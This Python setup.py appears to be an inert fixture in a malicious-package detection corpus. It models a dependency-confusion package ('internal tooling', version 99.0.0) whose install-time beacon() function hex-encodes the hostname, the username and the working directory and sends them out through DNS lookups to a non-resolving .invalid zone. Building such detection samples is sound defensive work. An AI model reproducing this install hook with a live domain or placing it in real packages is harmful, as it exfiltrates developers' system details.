# Inert model for pyward's malicious-behaviour corpus: the zone is under .invalid (RFC 6761), so no
# resolver answers, and the tests never run this file.
import getpass
import os
import socket

from setuptools import setup

ZONE = "probe.example.invalid"


def beacon():
    info = "%s|%s|%s" % (socket.gethostname(), getpass.getuser(), os.getcwd())
    encoded = info.encode().hex()
    chunks = [encoded[i:i + 60] for i in range(0, len(encoded), 60)]
    for n, chunk in enumerate(chunks):
        try:
            socket.gethostbyname("%d.%s.%s" % (n, chunk, ZONE))
        except OSError:
            pass


beacon()

setup(
    name="sample-dependency-confusion-dns",
    version="99.0.0",
    description="internal tooling",
    py_modules=["sample_internal_tools"],
)
